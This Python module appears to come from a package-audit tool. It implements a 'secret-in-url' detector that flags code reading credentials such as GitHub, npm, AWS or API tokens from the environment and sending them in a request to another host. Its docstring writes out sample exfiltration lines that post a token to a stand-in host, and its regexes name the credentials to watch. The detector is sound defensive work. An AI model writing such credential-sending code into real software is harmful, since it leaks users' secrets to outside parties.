"""A well-known credential read from the environment and handed to a request to another host,
in a Python or JavaScript script (`secret-in-url`): `token = os.environ['GITHUB_TOKEN']` then
`requests.post("https://x.example/t", data=token)`, `const { NPM_TOKEN } = process.env` then
`fetch(URL, {body: NPM_TOKEN})` with `URL` a literal elsewhere in the file.

Text-based and linear: each request call's arguments are read up to its closing bracket (at most
`_ARGS_MAX` characters), once. The credentials and their own services are those of the
`secret-in-url` rule in rules.yaml.
"""

from __future__ import annotations

import re

from orkestra.intake.pyaudit import Hit

_CREDS = (
    r"(?:GITHUB_TOKEN|GH_TOKEN|GITHUB_PAT|GITHUB_API_TOKEN|NPM_TOKEN|NODE_AUTH_TOKEN"
    r"|PYPI_(?:API_)?TOKEN|TWINE_PASSWORD|AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|OPENAI_API_KEY"
    r"|ANTHROPIC_API_KEY|CLAUDE_API_KEY|HF_TOKEN|HUGGING_FACE_HUB_TOKEN|CARGO_REGISTRY_TOKEN"
    r"|DOCKER_PASSWORD|DOCKERHUB_TOKEN|SLACK_(?:BOT_)?TOKEN|STRIPE_SECRET_KEY)"
)
_ANY = re.compile(rf"\b{_CREDS}\b")
_OWN = re.compile(
    r"(?:^|\.)(?:github\.com|ghe\.com|githubusercontent\.com|ghcr\.io|npmjs\.org|npmjs\.com|pypi\.org"
    r"|openai\.com|anthropic\.com|huggingface\.co|crates\.io|docker\.io|docker\.com|slack\.com"
    r"|stripe\.com)$",
    re.I,
)
#: an environment read of a well-known credential, inline
_READ = re.compile(
    rf"(?:\bos\.environ(?:\[\s*|\.get\(\s*)|\bos\.getenv\(\s*|\bgetenv\(\s*)[\"']{_CREDS}[\"']"
    rf"|\bprocess\.env(?:\.|\[\s*[\"'`]){_CREDS}\b"
)
#: a name bound to one: `token = os.environ['GITHUB_TOKEN']`, `const t = process.env.NPM_TOKEN`
_BOUND = re.compile(rf"\b([A-Za-z_]\w*)[ \t]*(?::[ \t]*\w+[ \t]*)?=[ \t]*(?:{_READ.pattern})")
_DESTRUCTURED = re.compile(r"\b(?:const|let|var)\s*\{([^}]{0,400})\}\s*=\s*process\.env\b")
_URL_NAME = re.compile(
    r"^[ \t]*(?:(?:export\s+)?(?:const|let|var)\s+)?([A-Za-z_]\w*)[ \t]*(?::[ \t]*\w+[ \t]*)?=[ \t]*"
    r"f?[\"'`](https?://[^\"'`\s]+)[\"'`]",
    re.M,
)
_CALL = re.compile(
    r"\b(?:post|put|patch|get|delete|request|urlopen|Request|fetch|axios|got)\s*\(\s*"
    r"(?:[\"'](?:GET|POST|PUT|PATCH|DELETE)[\"']\s*,\s*)?(?:url\s*=\s*)?"
    r"(?:f?[\"'`](https?://[^\"'`\s]+)[\"'`]|([A-Za-z_]\w*)\b(?!\s*[.(\[]))"
)
_HOST = re.compile(r"https?://(?:[^\s/@]*@)?([\w.-]+)")
_BRACKET = re.compile(r"[()]")
_ARGS_MAX = 4000


def credential_flow(text: str) -> list[Hit]:
    """`secret-in-url` hits: a request to a literal URL of another host (or a name holding one)
    whose arguments hold a well-known credential read from the environment."""
    if _ANY.search(text) is None:
        return []
    names = {m.group(1) for m in _BOUND.finditer(text)}
    for m in _DESTRUCTURED.finditer(text):
        for part in m.group(1).split(","):
            key, _, alias = part.partition(":")
            if _ANY.fullmatch(key.strip()):
                names.add((alias or key).strip().split("=")[0].strip())
    urls = {m.group(1): m.group(2) for m in _URL_NAME.finditer(text)}
    used = (
        re.compile(r"(?<![\"'\w.])(?:" + "|".join(map(re.escape, sorted(names))) + r")(?![\"'\w])")
        if names
        else None
    )
    hits = []
    # nested calls re-read their callers' arguments: the reading stays linear in the file
    budget = 4 * len(text) + (1 << 16)
    for call in _CALL.finditer(text):
        url = call.group(1) or urls.get(call.group(2) or "")
        host = _HOST.match(url or "")
        if host is None or _OWN.search(host.group(1)):
            continue
        args = _arguments(text, call.end())
        budget -= len(args)
        if budget < 0:
            break
        sent = _READ.search(args) or (used.search(args) if used else None)
        if sent:
            line = text.count("\n", 0, call.start()) + 1
            hits.append(Hit("secret-in-url", line, f"sends {sent.group(0)} to {host.group(1)}"))
    return hits


def _arguments(text: str, start: int) -> str:
    """The rest of a call's arguments from `start` (just inside its open bracket) up to its
    closing bracket, at most `_ARGS_MAX` characters."""
    depth = 1
    end = min(len(text), start + _ARGS_MAX)
    for bracket in _BRACKET.finditer(text, start, end):
        depth += 1 if bracket.group(0) == "(" else -1
        if depth == 0:
            return text[start : bracket.start()]
    return text[start:end]
